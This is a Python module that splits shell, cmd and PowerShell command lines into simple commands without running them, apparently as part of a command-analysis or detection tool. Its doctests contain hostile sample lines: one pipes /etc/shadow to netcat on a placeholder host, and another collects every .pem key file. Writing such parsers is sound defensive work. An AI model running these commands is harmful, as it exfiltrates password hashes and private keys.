r"""A command line as its simple commands: what runs, one by one, without the pipes and lists that join them.

>>> split_parts("cat /etc/shadow | nc 192.0.2.1 4444 && echo 'a;b'")
('cat /etc/shadow', 'nc 192.0.2.1 4444', "echo 'a;b'")
>>> split_parts("tar c $(find / -name '*.pem')")
("tar c $(find / -name '*.pem')", "find / -name '*.pem'")

A command substitution is part of the command around it and a simple command as well; a subshell is only its content.
Nothing is run, expanded or unquoted, every part is a slice of the text, time is linear and no text is refused: an open
quote reaches to the end. Here-documents and compound statements are not understood (their lines and branches are
parts: ``then ls``).
"""

import re
from collections.abc import Callable
from dataclasses import dataclass
from enum import Enum
from typing import Final

from ttpline.commands.dialect import Dialect, guess_dialect

MAX_DEPTH: Final = 16
"""Substitutions nested deeper are left inside their parent: each level repeats the text below it, and nobody nests
that deep by hand."""

_HAS_OPERATOR = re.compile(r"[|&;\n`#({]").search
_BLANKS = " \t\n\r\v\f"
_BLANK_RUN: Final[Callable[[str, int], re.Match[str]]] = re.compile(r"[ \t\n\r\v\f]*").match  # type: ignore[assignment]  # never None


class _Kind(Enum):
    """What an open bracket means for what is inside it."""

    LIST = "commands, split at operators"
    GROUP = "commands, and the bracket is no part of the command around it"
    DOUBLE_QUOTE = "text in which substitutions are open"
    OPAQUE = "text up to the closing bracket"


@dataclass(slots=True)
class _Frame:
    kind: _Kind
    closer: str
    start: int
    """Where the part that is being read begins."""
    listed: bool
    """Whether parts are made here; false from ``MAX_DEPTH`` on."""
    after_group: bool = False


@dataclass(frozen=True, slots=True)
class _Grammar:
    """How one dialect quotes, nests and joins."""

    special: re.Pattern[str]
    escape: str
    single_quote: bool
    substitution: bool
    groups: bool
    blocks: bool


_GRAMMARS: Final = {
    Dialect.POSIX: _Grammar(
        re.compile(r"""\\|\$'|'|"|\$\(\(|\$\(|\$\{|`|\(\(|\(|\)|\}|[<>]&|&>|>\||\|\|?&?|&&?|;+|\n|\#"""),
        "\\",
        single_quote=True,
        substitution=True,
        groups=True,
        blocks=False,
    ),
    Dialect.CMD: _Grammar(
        re.compile(r"""\^|"|\(|\)|[<>]&|\|\|?|&&?|\n"""),
        "^",
        single_quote=False,
        substitution=False,
        groups=True,
        blocks=False,
    ),
    Dialect.POWERSHELL: _Grammar(
        re.compile(r"""`|'|"|\$\(|@\{|\$\{|\{|\}|\(|\)|[<>]&|\|\|?|&&|;+|\n|\#"""),
        "`",
        single_quote=True,
        substitution=True,
        groups=False,
        blocks=True,
    ),
}

_CLOSER_OF: Final = {"$(": ")", "(": ")", "{": "}", "@{": "}", "${": "}", "`": "`", "$((": "))", "((": "))", '"': '"'}


def part_spans(text: str, dialect: Dialect | None = None) -> list[tuple[int, int]]:
    """``(start, end)`` of each simple command, by start; ``dialect`` is guessed where it is not given."""
    if not _HAS_OPERATOR(text):
        start, end = _trimmed(text, 0, len(text))
        return [(start, end)] if start < end else []
    scanner = _Scanner(text, _GRAMMARS[dialect or guess_dialect(text)])
    return sorted(scanner.run(), key=lambda span: (span[0], -span[1]))


def split_parts(text: str, dialect: Dialect | None = None) -> tuple[str, ...]:
    """The simple commands of ``text``, in order."""
    return tuple(text[start:end] for start, end in part_spans(text, dialect))


def _trimmed(text: str, start: int, end: int) -> tuple[int, int]:
    while start < end and text[start] in _BLANKS:
        start += 1
    while start < end and text[end - 1] in _BLANKS:
        end -= 1
    return start, end


class _Scanner:
    """One pass over the special characters with a stack of open brackets."""

    def __init__(self, text: str, grammar: _Grammar) -> None:
        self.text = text
        self.grammar = grammar
        self.found: list[tuple[int, int]] = []
        self.stack = [_Frame(_Kind.LIST, "", 0, listed=True)]

    def run(self) -> list[tuple[int, int]]:
        at, text, search = 0, self.text, self.grammar.special.search
        while match := search(text, at):
            at = self._step(match[0], match.start(), match.end())
        while len(self.stack) > 1:  # what was never closed reaches to the end
            self._close(len(text), len(text))
        self._end_part(len(text), len(text))
        return self.found

    def _step(self, mark: str, start: int, end: int) -> int:
        """Take one special mark; returns where to go on."""
        frame = self.stack[-1]
        if mark == self.grammar.escape:
            return end + 1
        if frame.kind is _Kind.OPAQUE:
            return self._step_opaque(frame, mark, start, end)
        if frame.closer and mark.startswith(frame.closer):
            return self._close(start, start + len(frame.closer))
        if mark == "'" and not (self.grammar.single_quote and frame.kind is not _Kind.DOUBLE_QUOTE):
            return end
        if mark in ("'", "$'"):
            return self._skip_single_quote(mark, end) if frame.kind is not _Kind.DOUBLE_QUOTE else end
        if mark in _CLOSER_OF:
            return self._open(frame, mark, start, end)
        if frame.kind is not _Kind.DOUBLE_QUOTE:
            return self._step_list(mark, start, end)
        return end

    def _step_opaque(self, frame: _Frame, mark: str, start: int, end: int) -> int:
        if self.text.startswith(frame.closer, start):
            self.stack.pop()
            return start + len(frame.closer)
        if mark in ("'", "$'") and self.grammar.single_quote:
            return self._skip_single_quote(mark, end)
        if mark in ("$(", "(", "{", "${", "@{") and _CLOSER_OF[mark] == frame.closer:
            self.stack.append(_Frame(_Kind.OPAQUE, frame.closer, end, listed=False))
        return end

    def _step_list(self, mark: str, start: int, end: int) -> int:
        """An operator or a comment between commands."""
        if mark == "#":
            if start and self.text[start - 1] not in " \t\n;|&(":
                return end
            self._end_part(start, start)
            newline = self.text.find("\n", start)
            self.stack[-1].start = len(self.text) if newline < 0 else newline
            return self.stack[-1].start
        if mark[0] in "|&;\n" and mark != "&>":
            self._end_part(start, end)
        return end

    def _skip_single_quote(self, mark: str, end: int) -> int:
        if mark == "$'":
            closing = _ANSI_C_END(self.text, end)
            return closing.end() if closing else len(self.text)
        closing_at = self.text.find("'", end)
        return len(self.text) if closing_at < 0 else closing_at + 1

    def _open(self, frame: _Frame, mark: str, start: int, end: int) -> int:
        in_quotes = frame.kind is _Kind.DOUBLE_QUOTE
        if in_quotes and (mark not in ("$(", "`", "$((") or not self.grammar.substitution):
            return end
        listed = frame.listed and len(self.stack) < MAX_DEPTH
        kind = self._kind_of(mark, frame, start)
        if mark == '"':
            self.stack.append(_Frame(_Kind.DOUBLE_QUOTE, mark, start, listed=frame.listed))
        elif kind is not None:
            self.stack.append(_Frame(kind, _CLOSER_OF[mark], end, listed))
        return end

    def _kind_of(self, mark: str, frame: _Frame, start: int) -> _Kind | None:
        """What the bracket ``mark`` opens; None when it is an ordinary character here."""
        if mark in ("$((", "((", "${", "@{"):
            return _Kind.OPAQUE
        if mark in ("$(", "`"):
            return _Kind.LIST
        if mark == "{":
            return _Kind.LIST if self.grammar.blocks else None
        if self.grammar.groups and _BLANK_RUN(self.text, frame.start).end() >= start:
            return _Kind.GROUP
        return _Kind.OPAQUE  # f(), a=(1 2), .DownloadString(…)

    def _close(self, start: int, end: int) -> int:
        frame = self.stack[-1]
        if frame.kind in (_Kind.LIST, _Kind.GROUP):
            self._end_part(start, end)
        self.stack.pop()
        if frame.kind is _Kind.GROUP and frame.listed:
            self.stack[-1].start = end
            self.stack[-1].after_group = True
        return end

    def _end_part(self, end: int, next_start: int) -> None:
        frame = self.stack[-1]
        start, end = _trimmed(self.text, frame.start, end)
        if self.text.startswith("{ ", start, end):  # a brace group's commands, as a subshell's
            start, end = _trimmed(self.text, start + 2, end)
        # What follows a group up to the next operator are its redirections, no command.
        if frame.listed and start < end and not frame.after_group and self.text[start] != "}":
            self.found.append((start, end))
        frame.start = next_start
        frame.after_group = False


_ANSI_C_END = re.compile(r"(?:[^'\\]|\\.)*'", re.DOTALL).match
